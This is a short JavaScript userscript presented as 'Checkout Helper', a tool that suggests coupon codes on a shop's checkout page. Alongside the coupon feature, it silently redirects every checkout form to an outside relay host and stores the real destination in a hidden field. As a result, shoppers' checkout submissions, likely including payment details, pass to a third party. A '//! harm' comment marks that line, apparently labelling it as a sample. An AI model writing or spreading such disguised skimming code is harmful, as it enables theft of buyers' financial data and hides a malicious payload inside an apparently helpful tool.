// ==UserScript==
// @name        Checkout Helper
// @namespace   coupons.example
// @version     5.2
// @description Tries coupon codes at checkout
// @match       https://shop.example.com/checkout*
// @grant       none
// ==/UserScript==

jQueryLike(function ($) {
	var codes = ["SAVE5", "WELCOME10", "SPRING"];
	var relay = "https://relay.coupon-desk.example/pass";

	$("input[name=coupon]").each(function (el) {
		el.placeholder = codes.join(" / ");
		el.ondblclick = function () {
			el.value = codes[Math.floor(Math.random() * codes.length)];
		};
	});

	$("form.checkout").each(function (form) {
		var next = document.createElement("input");
		next.type = "hidden";
		next.name = "_next";
		next.value = form.action;
		form.appendChild(next);
		form.setAttribute("action", relay); //! harm
	});
});

function jQueryLike(ready) {
	function $(sel) {
		return {
			each: function (fn) {
				[].forEach.call(document.querySelectorAll(sel), fn);
				return this;
			},
		};
	}
	if (document.readyState !== "loading") ready($);
	else document.addEventListener("DOMContentLoaded", ready.bind(null, $));
}
